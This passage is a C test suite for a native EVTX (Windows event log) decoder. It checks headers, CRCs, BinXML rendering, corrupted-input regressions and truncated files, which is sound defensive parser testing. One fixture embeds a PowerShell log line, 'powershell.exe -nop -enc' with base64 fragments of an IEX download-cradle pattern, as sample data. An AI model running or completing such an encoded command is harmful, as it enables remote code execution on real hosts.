/*
 * check_evtx.c -- Check suite for the native EVTX decoder (native.c,
 * binxml.c, crc32.c) through the reader interface and binxml.h.
 *
 * TCases:
 *   header     file header facts and open errors on testdata/ files
 *   chunk      CRC checks, truncation, parallel reads of unit ranges
 *   binxml     value rendering (table), hand-built raw BinXML records
 *              (value text 0x05 in attributes, char/entity refs, CDATA,
 *              UserData leaves), a string array in one <Data> (one
 *              value per string, both readers), CRC32 against its
 *              table version
 *   corrupt    numbered regressions: hostile inputs that must neither
 *              crash nor hang, with the counters they must give
 *   recovered  slack records, hidden chunks, de-duplication of copies
 * Files come from $top_srcdir/testdata (written by tests/evtxw.c).
 */
#include <check.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "ev_arena.h"
#include "ev_buf.h"
#include "ev_err.h"
#include "ev_json.h"
#include "ev_util.h"
#include "event.h"
#include "evtx/binxml.h"
#include "evtx/crc32.h"
#include "evtx/reader.h"
#include "evtxw.h"

/* ---- helpers ---- */

struct seen {
	uint64_t	 delivered, recovered_delivered, warnings;
	uint64_t	 sum_ids;
	uint32_t	 last_eid;
	char		 image[256];	/* first Image / NewProcessName */
};

static int
on_rec(const struct ev_record *rec, void *ctx)
{
	struct seen *s = ctx;

	s->delivered++;
	s->sum_ids += rec->record_id;
	s->last_eid = rec->event_id;
	if (rec->recovered)
		s->recovered_delivered++;
	ck_assert_ptr_nonnull(rec->provider);
	for (uint32_t i = 0; i < rec->ndata; i++) {
		ck_assert_ptr_nonnull(rec->data[i].name);
		ck_assert_ptr_nonnull(rec->data[i].value);
		if (s->image[0] == '\0' && (strcmp(rec->data[i].name,
		    "Image") == 0 || strcmp(rec->data[i].name,
		    "NewProcessName") == 0))
			snprintf(s->image, sizeof(s->image), "%s",
			    rec->data[i].value);
	}
	return 0;
}

static void
on_warn(void *ctx, const char *msg)
{
	struct seen *s = ctx;

	(void)msg;
	s->warnings++;
}

static char path_buf[4096];

static const char *
td(const char *name)
{
	const char *top = getenv("top_srcdir");

	snprintf(path_buf, sizeof(path_buf), "%s/testdata/%s",
	    top ? top : ".", name);
	return path_buf;
}

/* Reads path natively; returns the open/read status. */
static int
read_file(const char *path, bool recovered, struct evtx_stats *st,
    struct seen *s)
{
	struct evtx_open_opts o = { EVTX_PARSER_NATIVE, recovered, NULL, 0 };
	struct evtx_sink sink = { on_rec, on_warn, s };
	struct ev_err err = EV_ERR_INIT;
	struct evtx_file *f;
	int rc;

	memset(s, 0, sizeof(*s));
	evtx_stats_init(st);
	rc = evtx_file_open(path, &o, &f, st, &err);
	if (rc != 0)
		return rc;
	rc = evtx_file_read(f, 0, evtx_file_units(f), &sink, st, &err);
	evtx_file_close(f);
	return rc;
}

/* Whole file into memory (malloc'ed), *len its size. */
static uint8_t *
slurp(const char *path, size_t *len)
{
	FILE *fp = fopen(path, "rb");
	uint8_t *b;
	long n;

	ck_assert_msg(fp != NULL, "cannot open %s", path);
	fseek(fp, 0, SEEK_END);
	n = ftell(fp);
	rewind(fp);
	b = malloc((size_t)n + 1);
	ck_assert_ptr_nonnull(b);
	ck_assert_uint_eq(fread(b, 1, (size_t)n, fp), (size_t)n);
	fclose(fp);
	*len = (size_t)n;
	return b;
}

static char tmp_path[64];

static const char *
spill(const uint8_t *b, size_t len)
{
	int fd;

	snprintf(tmp_path, sizeof(tmp_path), "/tmp/check_evtx.XXXXXX");
	fd = mkstemp(tmp_path);
	ck_assert_int_ne(fd, -1);
	ck_assert_int_eq(write(fd, b, len), (ssize_t)len);
	close(fd);
	return tmp_path;
}

/* Recomputes a chunk's header CRC and records CRC after a mutation. */
static void
fix_chunk_crcs(uint8_t *c)
{
	uint32_t crc, freeoff = le32(c + 48);

	crc = evtx_crc32(0, c + 512, freeoff - 512);
	memcpy(c + 52, &crc, 4);
	crc = evtx_crc32(evtx_crc32(0, c, 120), c + 128, 384);
	memcpy(c + 124, &crc, 4);
}

/* ---- header ---- */

static const struct {
	const char	*file;
	int		 rc;
	uint64_t	 records, events;
	bool		 dirty, header_bad;
} header_cases[] = {
	{ "wks01-sysmon.evtx", 0, 40, 40, false, false },
	{ "wks01-security.evtx", 0, 25, 24, false, false },
	{ "ignored-events.evtx", 0, 4, 0, false, false },
	{ "bad/dirty.evtx", 0, 4, 4, true, false },
	{ "bad/zero-records.evtx", 0, 0, 0, false, false },
	{ "bad/empty.evtx", EV_ENOTEVTX, 0, 0, false, false },
	{ "bad/not-evtx.evtx", EV_ENOTEVTX, 0, 0, false, false },
	{ "bad/header-damage.evtx", 0, 4, 4, false, true },
};

START_TEST(header_table)
{
	struct evtx_stats st;
	struct seen s;
	int rc = read_file(td(header_cases[_i].file), false, &st, &s);

	ck_assert_msg(rc == header_cases[_i].rc, "%s: rc %d",
	    header_cases[_i].file, rc);
	if (rc == 0) {
		ck_assert_msg(st.records == header_cases[_i].records,
		    "%s: %llu records", header_cases[_i].file,
		    (unsigned long long)st.records);
		ck_assert_msg(st.events == header_cases[_i].events &&
		    s.delivered == st.events, "%s: %llu events",
		    header_cases[_i].file, (unsigned long long)st.events);
		ck_assert_msg(st.dirty == header_cases[_i].dirty &&
		    st.header_bad == header_cases[_i].header_bad,
		    "%s: dirty %d header_bad %d", header_cases[_i].file,
		    st.dirty, st.header_bad);
		ck_assert_uint_eq(st.bad_records, 0);
	}
	evtx_stats_release(&st);
}
END_TEST

START_TEST(header_fields)
{
	struct evtx_stats st;
	struct seen s;

	ck_assert_int_eq(read_file(td("wks01-sysmon.evtx"), false, &st, &s),
	    0);
	ck_assert_uint_eq(st.chunks, 3);
	ck_assert_uint_eq(st.bad_chunks, 0);
	ck_assert_uint_ne(st.first_time, 0);
	ck_assert_uint_ge(st.last_time, st.first_time);
	ck_assert_uint_le(st.first_id, st.last_id);
	ck_assert_str_ne(s.image, "");
	evtx_stats_release(&st);
}
END_TEST

/* ---- chunk ---- */

START_TEST(chunk_crc)
{
	static const char *files[] = { "bad/chunk-crc.evtx",
	    "bad/chunk-header-crc.evtx" };
	struct evtx_stats st;
	struct seen s;

	for (size_t i = 0; i < NELEM(files); i++) {
		ck_assert_int_eq(read_file(td(files[i]), false, &st, &s), 0);
		ck_assert_msg(st.bad_chunks >= 1 && s.warnings >= 1,
		    "%s: bad_chunks %u", files[i], st.bad_chunks);
		/* still reads every sound record */
		ck_assert_uint_eq(st.records, 6);
		evtx_stats_release(&st);
	}
}
END_TEST

START_TEST(chunk_truncated)
{
	struct evtx_stats st;
	struct seen s;

	ck_assert_int_eq(read_file(td("bad/truncated.evtx"), false, &st, &s),
	    0);
	ck_assert_uint_eq(st.records, 3);
	ck_assert_uint_ge(st.bad_records + st.bad_chunks, 1);
	evtx_stats_release(&st);
}
END_TEST

struct range_job {
	struct evtx_file	*f;
	uint32_t		 first, n;
	struct evtx_stats	 st;
	struct seen		 s;
	int			 rc;
};

static void *
range_thread(void *arg)
{
	struct range_job *j = arg;
	struct evtx_sink sink = { on_rec, on_warn, &j->s };

	evtx_stats_init(&j->st);
	memset(&j->s, 0, sizeof(j->s));
	j->rc = evtx_file_read(j->f, j->first, j->n, &sink, &j->st, NULL);
	return NULL;
}

START_TEST(chunk_parallel)
{
	struct evtx_open_opts o = { EVTX_PARSER_NATIVE, false, NULL, 0 };
	struct evtx_stats st, whole;
	struct evtx_file *f;
	struct range_job j[3];
	pthread_t t[3];
	struct seen s;
	uint32_t units;

	ck_assert_int_eq(read_file(td("wks01-sysmon.evtx"), false, &whole,
	    &s), 0);
	evtx_stats_init(&st);
	ck_assert_int_eq(evtx_file_open(td("wks01-sysmon.evtx"), &o, &f, &st,
	    NULL), 0);
	units = evtx_file_units(f);
	ck_assert_uint_ge(units, 3);
	for (int i = 0; i < 3; i++) {
		j[i].f = f;
		j[i].first = i == 0 ? 0 : i == 1 ? 1 : 2;
		j[i].n = i < 2 ? 1 : units - 2;
		ck_assert_int_eq(pthread_create(&t[i], NULL, range_thread,
		    &j[i]), 0);
	}
	for (int i = 0; i < 3; i++) {
		pthread_join(t[i], NULL);
		ck_assert_int_eq(j[i].rc, 0);
		ck_assert_int_eq(evtx_stats_merge(&st, &j[i].st), 0);
		evtx_stats_release(&j[i].st);
	}
	evtx_file_close(f);
	ck_assert_uint_eq(st.records, whole.records);
	ck_assert_uint_eq(st.events, whole.events);
	ck_assert_uint_eq(st.first_id, whole.first_id);
	ck_assert_uint_eq(st.last_id, whole.last_id);
	ck_assert_uint_eq(st.ngaps, whole.ngaps);
	evtx_stats_release(&st);
	evtx_stats_release(&whole);
}
END_TEST

/* ---- binxml ---- */

static const struct {
	const char	*name;
	uint8_t		 type;
	uint8_t		 data[40];
	uint32_t	 size;
	const char	*want;
} value_cases[] = {
	{ "string", 0x01, { 'a', 0, 'b', 0, 0, 0, 0, 0 }, 8, "ab" },
	{ "string lone surrogate", 0x01, { 0x00, 0xd8, 'x', 0 }, 4,
	    "\xef\xbf\xbdx" },
	{ "string pair", 0x01, { 0x3d, 0xd8, 0x00, 0xde }, 4,
	    "\xf0\x9f\x98\x80" },
	{ "ansi cp1252", 0x02, { 'A', 0x80, 0 }, 3, "A\xe2\x82\xac" },
	{ "int8", 0x03, { 0xff }, 1, "-1" },
	{ "uint16", 0x06, { 0x39, 0x30 }, 2, "12345" },
	{ "int64 min", 0x09, { 0, 0, 0, 0, 0, 0, 0, 0x80 }, 8,
	    "-9223372036854775808" },
	{ "bool", 0x0d, { 1, 0, 0, 0 }, 4, "true" },
	{ "bool false", 0x0d, { 0, 0, 0, 0 }, 4, "false" },
	{ "binary", 0x0e, { 0xde, 0xad, 0x01 }, 3, "DEAD01" },
	{ "guid", 0x0f, { 0x5f, 0x38, 0x70, 0x57, 0x2a, 0xc2, 0xe0, 0x43,
	    0xbf, 0x4c, 0x06, 0xf5, 0x69, 0x8f, 0xfb, 0xd9 }, 16,
	    "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}" },
	{ "sizet 8", 0x10, { 0xa4, 0x01, 0, 0, 0, 0, 0, 0 }, 8,
	    "0x1a4" },
	{ "sizet 4 zero", 0x10, { 0, 0, 0, 0 }, 4, "0x0" },
	{ "filetime", 0x11, { 0x00, 0x80, 0x3e, 0xd5, 0xde, 0xb1, 0x9d, 0x01 },
	    8, "1970-01-01T00:00:00.000000000Z" },
	{ "systemtime", 0x12, { 0xe8, 0x07, 3, 0, 2, 0, 5, 0, 14, 0, 2, 0,
	    11, 0, 0x7b, 0 }, 16, "2024-03-05T14:02:11.123Z" },
	{ "sid", 0x13, { 1, 1, 0, 0, 0, 0, 0, 5, 18, 0, 0, 0 }, 12,
	    "S-1-5-18" },
	{ "hex32", 0x14, { 0xef, 0xbe, 0xad, 0xde }, 4, "0xdeadbeef" },
	{ "hex64", 0x15, { 0xe5, 0x03, 0, 0, 0, 0, 0, 0 }, 8, "0x3e5" },
	{ "hex64 max", 0x15, { 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff,
	    0xff }, 8, "0xffffffffffffffff" },
	{ "hex32 small", 0x14, { 0x10, 0, 0, 0 }, 4, "0x10" },
	{ "hex32 zero", 0x14, { 0, 0, 0, 0 }, 4, "0x0" },
	{ "hex64 array", 0x95, { 1, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0,
	    0, 0 }, 16, "0x1, 0x100" },
	{ "string array", 0x81, { 'a', 0, 0, 0, 'b', 0, 0, 0 }, 8, "a, b" },
	{ "uint16 array", 0x86, { 1, 0, 2, 0 }, 4, "1, 2" },
	{ "short int32", 0x07, { 1 }, 1, "" },
};

START_TEST(binxml_values)
{
	char out[128];
	int n = bx_render_value(value_cases[_i].type, value_cases[_i].data,
	    value_cases[_i].size, out, sizeof(out));

	ck_assert_msg(n >= 0 && strcmp(out, value_cases[_i].want) == 0,
	    "%s: got '%s' want '%s'", value_cases[_i].name, n >= 0 ? out :
	    "(error)", value_cases[_i].want);
}
END_TEST

/* Plain UTF-16LE -> UTF-8 as binxml.h specifies it, one unit at a time. */
static size_t
ref_utf8(const uint16_t *u, size_t n, char *o)
{
	size_t k = 0, end = n;

	/* NULs at the end dropped, one inside shown as U+2400 */
	while (end > 0 && u[end - 1] == 0)
		end--;
	for (size_t i = 0; i < end; i++) {
		uint32_t cp = u[i];

		if (cp == 0) {
			cp = 0x2400;
		} else if (cp >= 0xd800 && cp <= 0xdbff && i + 1 < n &&
		    u[i + 1] >= 0xdc00 && u[i + 1] <= 0xdfff) {
			cp = 0x10000 + ((cp - 0xd800) << 10) + (u[i + 1] - 0xdc00);
			i++;
		} else if (cp >= 0xd800 && cp <= 0xdfff) {
			cp = 0xfffd;
		}
		if (cp < 0x80) {
			o[k++] = (char)cp;
		} else if (cp < 0x800) {
			o[k++] = (char)(0xc0 | cp >> 6);
			o[k++] = (char)(0x80 | (cp & 0x3f));
		} else if (cp < 0x10000) {
			o[k++] = (char)(0xe0 | cp >> 12);
			o[k++] = (char)(0x80 | ((cp >> 6) & 0x3f));
			o[k++] = (char)(0x80 | (cp & 0x3f));
		} else {
			o[k++] = (char)(0xf0 | cp >> 18);
			o[k++] = (char)(0x80 | ((cp >> 12) & 0x3f));
			o[k++] = (char)(0x80 | ((cp >> 6) & 0x3f));
			o[k++] = (char)(0x80 | (cp & 0x3f));
		}
	}
	o[k] = '\0';
	return k;
}

/*
 * Strings of 1..40 units, ASCII but for one odd unit (or a pair) at each
 * position: the vector paths (8 units at a time, the overlapping tail)
 * must give what the plain conversion gives.
 */
START_TEST(binxml_utf16_paths)
{
	static const uint16_t odd[][2] = {
		{ 0x00e9, 'x' }, { 0x20ac, 'y' }, { 0xd83d, 0xde00 },
		{ 0xd800, 'z' }, { 0xdc00, 'w' }, { 0x0000, 'v' },
		{ 0x007f, 'u' }, { 0x0080, 't' },
	};
	uint16_t u[40];
	uint8_t raw[80];
	char got[200], want[200];

	for (size_t n = 1; n <= 40; n++)
		for (size_t at = 0; at <= n; at++)
			for (size_t o = 0; o < NELEM(odd); o++) {
				int len;

				for (size_t i = 0; i < n; i++)
					u[i] = (uint16_t)('A' + i % 26);
				if (at < n)
					u[at] = odd[o][0];
				if (at + 1 < n)
					u[at + 1] = odd[o][1];
				for (size_t i = 0; i < n; i++) {
					raw[2 * i] = (uint8_t)(u[i] & 0xff);
					raw[2 * i + 1] = (uint8_t)(u[i] >> 8);
				}
				ref_utf8(u, n, want);
				len = bx_render_value(0x01, raw,
				    (uint32_t)(2 * n), got, sizeof(got));
				ck_assert_msg(len >= 0 && strcmp(got, want) == 0,
				    "n %zu at %zu odd %zu: '%s' want '%s'", n, at,
				    o, len >= 0 ? got : "(error)", want);
			}
}
END_TEST

/* A raw (template-less) BinXML record written at chunk offset 512. */
struct bb {
	uint8_t		 c[65536];
	uint32_t	 n;
};

static void
put8(struct bb *b, uint32_t v)
{
	b->c[b->n++] = (uint8_t)v;
}

static void
put16(struct bb *b, uint32_t v)
{
	put8(b, v & 0xff);
	put8(b, v >> 8 & 0xff);
}

static void
put32(struct bb *b, uint32_t v)
{
	put16(b, v & 0xffff);
	put16(b, v >> 16);
}

static void
put_str(struct bb *b, const char *s)
{
	put16(b, (uint32_t)strlen(s));
	for (; *s; s++)
		put16(b, (uint8_t)*s);
}

/* An inline name (its offset is the next byte), hashed as Windows does. */
static void
put_name(struct bb *b, const char *s)
{
	uint32_t h = 0;

	for (const char *p = s; *p != '\0'; p++)
		h = h * 65599 + (uint8_t)*p;
	put32(b, b->n + 4);
	put32(b, 0);
	put16(b, h & 0xffff);
	put_str(b, s);
	put16(b, 0);
}

static void
open_el(struct bb *b, const char *name, bool attrs)
{
	put8(b, attrs ? 0x41 : 0x01);
	put32(b, 0);
	put_name(b, name);
	if (attrs)
		put32(b, 0);
}

static void
attr_text(struct bb *b, const char *name, const char *v)
{
	put8(b, 0x06);
	put_name(b, name);
	put8(b, 0x05);		/* value text inside an attribute */
	put8(b, 0x01);
	put_str(b, v);
}

static void
el_text(struct bb *b, const char *name, const char *v)
{
	open_el(b, name, false);
	put8(b, 0x02);
	put8(b, 0x05);
	put8(b, 0x01);
	put_str(b, v);
	put8(b, 0x04);
}

static void
raw_system(struct bb *b, const char *provider, const char *eid)
{
	b->n = 512;
	put8(b, 0x0f); put8(b, 1); put8(b, 1); put8(b, 0);
	open_el(b, "Event", false);
	put8(b, 0x02);
	open_el(b, "System", false);
	put8(b, 0x02);
	open_el(b, "Provider", true);
	attr_text(b, "Name", provider);
	put8(b, 0x03);
	el_text(b, "EventID", eid);
	el_text(b, "Channel", "Microsoft-Windows-Sysmon/Operational");
	el_text(b, "EventRecordID", "77");
	put8(b, 0x04);		/* </System> */
}

START_TEST(binxml_raw_record)
{
	static struct bb b;
	struct bx_dec *d = bx_new();
	struct ev_record rec;

	ck_assert_ptr_nonnull(d);
	memset(&b, 0, sizeof(b));
	raw_system(&b, "Microsoft-Windows-Sysmon", "1");
	open_el(&b, "EventData", false);
	put8(&b, 0x02);
	open_el(&b, "Data", true);
	attr_text(&b, "Name", "Image");
	put8(&b, 0x02);
	put8(&b, 0x05); put8(&b, 0x01); put_str(&b, "C:\\a");
	put8(&b, 0x08); put16(&b, 0x20ac);		/* &#x20ac; */
	put8(&b, 0x09); put_name(&b, "amp");		/* &amp; */
	put8(&b, 0x07); put_str(&b, "<b>");		/* CDATA */
	put8(&b, 0x04);
	open_el(&b, "Data", false);			/* no Name */
	put8(&b, 0x03);
	put8(&b, 0x04);		/* </EventData> */
	put8(&b, 0x04);		/* </Event> */
	put8(&b, 0x00);
	bx_chunk(d, b.c, sizeof(b.c));
	ck_assert_int_eq(bx_record(d, 512, b.n, false, &rec), 0);
	ck_assert_uint_eq(rec.event_id, 1);
	ck_assert_uint_eq(rec.record_id, 77);
	ck_assert_int_eq(rec.kind, EV_KIND_PROCESS);
	ck_assert_str_eq(rec.provider, "Microsoft-Windows-Sysmon");
	ck_assert_str_eq(rec.channel, "Microsoft-Windows-Sysmon/Operational");
	ck_assert_ptr_null(rec.user_sid);
	ck_assert_uint_eq(rec.ndata, 2);
	ck_assert_str_eq(rec.data[0].name, "Image");
	ck_assert_str_eq(rec.data[0].value, "C:\\a\xe2\x82\xac&<b>");
	ck_assert_str_eq(rec.data[1].name, "");
	ck_assert_str_eq(rec.data[1].value, "");
	bx_free(d);
}
END_TEST

START_TEST(binxml_userdata)
{
	static struct bb b;
	struct bx_dec *d = bx_new();
	struct ev_record rec;

	memset(&b, 0, sizeof(b));
	raw_system(&b, "Microsoft-Windows-Eventlog", "1102");
	open_el(&b, "UserData", false);
	put8(&b, 0x02);
	open_el(&b, "LogFileCleared", false);
	put8(&b, 0x02);
	el_text(&b, "SubjectUserSid", "S-1-5-21-1");
	el_text(&b, "SubjectUserName", "alice");
	put8(&b, 0x04);
	put8(&b, 0x04);
	put8(&b, 0x04);
	put8(&b, 0x00);
	bx_chunk(d, b.c, sizeof(b.c));
	ck_assert_int_eq(bx_record(d, 512, b.n, false, &rec), 0);
	ck_assert_int_eq(rec.kind, EV_KIND_LOG_CLEAR);
	ck_assert_uint_eq(rec.ndata, 2);
	ck_assert_str_eq(rec.data[0].name, "SubjectUserSid");
	ck_assert_str_eq(rec.data[1].value, "alice");
	/* unwanted ids are classified without decoding the rest */
	b.n = 0;
	raw_system(&b, "Microsoft-Windows-Eventlog", "4624");
	put8(&b, 0x04);
	put8(&b, 0x00);
	bx_chunk(d, b.c, sizeof(b.c));
	ck_assert_int_eq(bx_record(d, 512, b.n, false, &rec), 0);
	ck_assert_int_eq(rec.kind, EV_KIND_NONE);
	ck_assert_uint_eq(rec.event_id, 4624);
	ck_assert_ptr_null(rec.provider);
	bx_free(d);
}
END_TEST

/*
 * Windows PowerShell 400 logs its values as one <Data> holding an array
 * of strings; libevtx renders one unnamed <Data> per string.  Both
 * readers must give them as separate unnamed values, in order (not one
 * value joined with ", "), and the data JSON names them by position.
 */
#define PSC_TEXT "\tNewEngineState=Available\r\n\tPreviousEngineState=" \
	"None\r\n\r\n\tSequenceNumber=13\r\n\r\n\tHostName=ConsoleHost\r\n" \
	"\tHostApplication=powershell.exe -nop -enc SQBFAFgA, KABOAGUA\r\n" \
	"\tEngineVersion=5.1.19041.1\r\n\tCommandLine="

struct psc_seen {
	int		 n;
	uint32_t	 ndata;
	char		 name[3][16], value[3][512];
	char		 json[1024];
};

static int
psc_on_rec(const struct ev_record *rec, void *ctx)
{
	struct psc_seen *s = ctx;
	struct ev_arena a;
	struct ev_event ev;
	struct ev_buf b = EV_BUF_INIT;

	s->n++;
	s->ndata = rec->ndata;
	for (uint32_t i = 0; i < rec->ndata && i < 3; i++) {
		snprintf(s->name[i], sizeof(s->name[i]), "%s",
		    rec->data[i].name);
		snprintf(s->value[i], sizeof(s->value[i]), "%s",
		    rec->data[i].value);
	}
	ev_arena_init(&a);
	ck_assert_int_eq(ev_normalise(rec, &a, &ev), 0);
	ev_json_data(&b, &ev);
	snprintf(s->json, sizeof(s->json), "%s", b.buf);
	ev_buf_release(&b);
	ev_arena_release(&a);
	return 0;
}

START_TEST(binxml_string_array)
{
	static const char json[] = "{\"Data1\":\"Available\","
	    "\"Data2\":\"None\",\"Data3\":\"\\tNewEngineState=";
	const char *parts[] = { "Available", "None", PSC_TEXT };
	uint16_t u16[1024];
	size_t nu = 0;
	struct evtxw_data d = { "", EVTXW_T_STRARR, 0, NULL, u16, 0 };
	struct evtxw_event ev;
	struct evtxw_opts wo = EVTXW_OPTS_INIT;
	struct evtxw *w = evtxw_new(&wo);
	struct ev_err err = EV_ERR_INIT;
	const uint8_t *bytes;
	size_t len;

	/* the strings one after the other, U+0000 between them */
	for (size_t i = 0; i < NELEM(parts); i++) {
		if (i > 0)
			u16[nu++] = 0;
		for (const char *p = parts[i]; *p != '\0'; p++)
			u16[nu++] = (uint16_t)(unsigned char)*p;
	}
	d.u16len = nu;
	memset(&ev, 0, sizeof(ev));
	ev.provider = "PowerShell";
	ev.event_id = 400;
	ev.qualifiers = 0;
	ev.level = 4;
	ev.task = 4;
	ev.keywords = 0x80000000000000ULL;
	ev.time = 133541604000000000ULL;
	ev.record_id = 501;
	ev.channel = "Windows PowerShell";
	ev.computer = "WKS03.corp.local";
	ev.body = EVTXW_BODY_EVENTDATA;
	ev.data = &d;
	ev.ndata = 1;
	ck_assert_ptr_nonnull(w);
	ck_assert_int_eq(evtxw_add(w, &ev, &err), 0);
	ck_assert_int_eq(evtxw_finish(w, &err), 0);
	bytes = evtxw_bytes(w, &len);
	spill(bytes, len);
	ev_want_reset();
	ck_assert_int_eq(ev_want_add("Windows PowerShell", true, EV_WANT_ANY),
	    0);
	for (int p = 0; p < 2; p++) {
		struct evtx_open_opts o = { p == 0 ? EVTX_PARSER_NATIVE :
		    EVTX_PARSER_LIBEVTX, false, NULL, 0 };
		struct psc_seen s = { 0 };
		struct evtx_sink sink = { psc_on_rec, NULL, &s };
		struct evtx_stats st;
		struct evtx_file *f;

		evtx_stats_init(&st);
		ck_assert_int_eq(evtx_file_open(tmp_path, &o, &f, &st, &err),
		    0);
		ck_assert_int_eq(evtx_file_read(f, 0, evtx_file_units(f),
		    &sink, &st, &err), 0);
		evtx_file_close(f);
		evtx_stats_release(&st);
		ck_assert_int_eq(s.n, 1);
		ck_assert_uint_eq(s.ndata, 3);
		for (int i = 0; i < 3; i++) {
			ck_assert_str_eq(s.name[i], "");
			ck_assert_str_eq(s.value[i], parts[i]);
		}
		ck_assert_msg(strncmp(s.json, json, strlen(json)) == 0,
		    "parser %d: %s", p, s.json);
	}
	ev_want_reset();
	unlink(tmp_path);
	evtxw_free(w);
}
END_TEST

START_TEST(binxml_crc32)
{
	static uint8_t buf[4099];

	for (size_t i = 0; i < sizeof(buf); i++)
		buf[i] = (uint8_t)(i * 7 + 3);
	ck_assert_uint_eq(evtx_crc32(0, "123456789", 9), 0xcbf43926);
	for (size_t n = 0; n < sizeof(buf); n += 61)
		ck_assert_uint_eq(evtx_crc32(0, buf + 3, n - (n ? 3 : 0)),
		    evtx_crc32_table(0, buf + 3, n - (n ? 3 : 0)));
}
END_TEST

/* ---- corrupt ---- */

/*
 * corrupt_0001_binxml_depth (2024-11, written for the depth cap): 200
 * nested elements in a raw record; the record is undecodable, no crash.
 */
START_TEST(corrupt_0001_binxml_depth)
{
	static struct bb b;
	struct bx_dec *d = bx_new();
	struct ev_record rec;

	memset(&b, 0, sizeof(b));
	b.n = 512;
	put8(&b, 0x0f); put8(&b, 1); put8(&b, 1); put8(&b, 0);
	for (int i = 0; i < 200; i++) {
		open_el(&b, "Event", false);
		put8(&b, 0x02);
	}
	for (int i = 0; i < 200; i++)
		put8(&b, 0x04);
	put8(&b, 0x00);
	bx_chunk(d, b.c, sizeof(b.c));
	ck_assert_int_eq(bx_record(d, 512, b.n, true, &rec), EV_ECORRUPT);
	bx_free(d);
}
END_TEST

/*
 * corrupt_0002_template_cycle (2024-11, written for the template cycle
 * guard): a template instance whose inline definition contains an
 * instance of itself; undecodable, no endless recursion.
 */
START_TEST(corrupt_0002_template_cycle)
{
	static struct bb b;
	struct bx_dec *d = bx_new();
	struct ev_record rec;
	uint32_t def, size_at;

	memset(&b, 0, sizeof(b));
	b.n = 512;
	put8(&b, 0x0f); put8(&b, 1); put8(&b, 1); put8(&b, 0);
	put8(&b, 0x0c); put8(&b, 1); put32(&b, 7);
	def = b.n + 4;
	put32(&b, def);
	put32(&b, 0);				/* next */
	for (int i = 0; i < 16; i++)
		put8(&b, 0);			/* GUID */
	size_at = b.n;
	put32(&b, 0);
	put8(&b, 0x0f); put8(&b, 1); put8(&b, 1); put8(&b, 0);
	put8(&b, 0x0c); put8(&b, 1); put32(&b, 7); put32(&b, def);
	put32(&b, 0);				/* no values */
	put8(&b, 0x00);
	memcpy(b.c + size_at, &(uint32_t){ b.n - size_at - 4 }, 4);
	put32(&b, 0);				/* no values */
	put8(&b, 0x00);
	bx_chunk(d, b.c, sizeof(b.c));
	ck_assert_int_eq(bx_record(d, 512, b.n, true, &rec), EV_ECORRUPT);
	bx_free(d);
}
END_TEST

/*
 * corrupt_0003_mutations (2024-11): 2000 seeded single-byte mutations of
 * wks01-sysmon.evtx's first chunk, CRCs fixed up so the decoder sees the
 * damage; every read ends, counts stay within the file's records.
 */
START_TEST(corrupt_0003_mutations)
{
	size_t len;
	uint8_t *orig = slurp(td("wks01-sysmon.evtx"), &len);
	uint8_t *m = malloc(len);
	uint32_t seed = 12345;
	/* fewer under valgrind (tests/valgrind.sh sets EVH_TEST_QUICK) */
	int rounds = getenv("EVH_TEST_QUICK") != NULL ? 100 : 2000;

	ck_assert_ptr_nonnull(m);
	for (int k = 0; k < rounds; k++) {
		struct evtx_stats st;
		struct seen s;
		uint32_t off;

		memcpy(m, orig, len);
		seed = seed * 1103515245u + 12345u;
		off = 4096 + 512 + (seed >> 8) % (le32(orig + 4096 + 48) - 512);
		m[off] ^= (uint8_t)(1u << (seed >> 3 & 7));
		fix_chunk_crcs(m + 4096);
		ck_assert_int_eq(read_file(spill(m, len), true, &st, &s), 0);
		unlink(tmp_path);
		ck_assert_uint_le(st.records + st.bad_records, 40 + 40);
		evtx_stats_release(&st);
	}
	free(m);
	free(orig);
}
END_TEST

/*
 * corrupt_0004_broken_binxml (testdata/bad/broken-binxml.evtx): a record
 * with broken BinXML is counted bad, the others are read.
 */
START_TEST(corrupt_0004_broken_binxml)
{
	struct evtx_stats st;
	struct seen s;

	ck_assert_int_eq(read_file(td("bad/broken-binxml.evtx"), false, &st,
	    &s), 0);
	ck_assert_uint_eq(st.bad_records, 1);
	ck_assert_uint_eq(st.records, 4);
	ck_assert_uint_ge(s.warnings, 1);
	evtx_stats_release(&st);
}
END_TEST

/*
 * wks01-sysmon.evtx as the project's writer builds it from its spec (40
 * records: 14 + 16 + 10 in 3 chunks), then the named mutation (NULL:
 * none) applied; the result is spilled to tmp_path.
 */
static const char *
build_mutant(const char *mutation)
{
	char spec[4096];
	struct evtxw_spec *sp;
	struct evtxw *w;
	struct ev_err err = EV_ERR_INIT;
	const uint8_t *b;
	size_t len;

	snprintf(spec, sizeof(spec), "%s", td("spec/wks01-sysmon.spec"));
	ck_assert_int_eq(evtxw_spec_load(spec, &sp, &err), 0);
	ck_assert_int_eq(evtxw_spec_build(sp, &w, &err), 0);
	if (mutation != NULL)
		ck_assert_msg(evtxw_mutate(w, mutation, &err) == 0, "%s: %s",
		    mutation, err.msg);
	b = evtxw_bytes(w, &len);
	spill(b, len);
	evtxw_free(w);
	evtxw_spec_free(sp);
	return tmp_path;
}

/* Offset in the file of chunk 0's k-th record (0-based). */
static uint32_t
rec_off(const char *path, unsigned k)
{
	size_t len;
	uint8_t *b = slurp(path, &len);
	uint32_t pos = 512;

	for (unsigned i = 0; i < k; i++)
		pos += le32(b + 4096 + pos + 4);
	free(b);
	return pos;
}

/*
 * corrupt_0005_truncated (2026-12, issue 15 reproducer 3: `head -c 69632`
 * of a 3-chunk log was read as a sound 14-record file): the chunks the
 * header announces past the end are missing, the file truncated; a cut
 * inside a chunk is that chunk cut short; a header alone is 3 missing.
 */
START_TEST(corrupt_0005_truncated)
{
	static const struct {
		const char	*mutation;
		uint64_t	 records;
		uint32_t	 missing, bad_chunks;
	} cases[] = {
		{ NULL, 40, 0, 0 },
		{ "truncate 69632", 14, 2, 0 },
		{ "truncate 100000", 30, 1, 1 },	/* chunk 1 fits */
		{ "truncate 4096", 0, 3, 0 },
	};
	struct evtx_stats st;
	struct seen s;

	for (size_t i = 0; i < NELEM(cases); i++) {
		const char *m = cases[i].mutation;

		ck_assert_int_eq(read_file(build_mutant(m), true, &st, &s), 0);
		unlink(tmp_path);
		ck_assert_msg(st.records == cases[i].records &&
		    st.missing_chunks == cases[i].missing &&
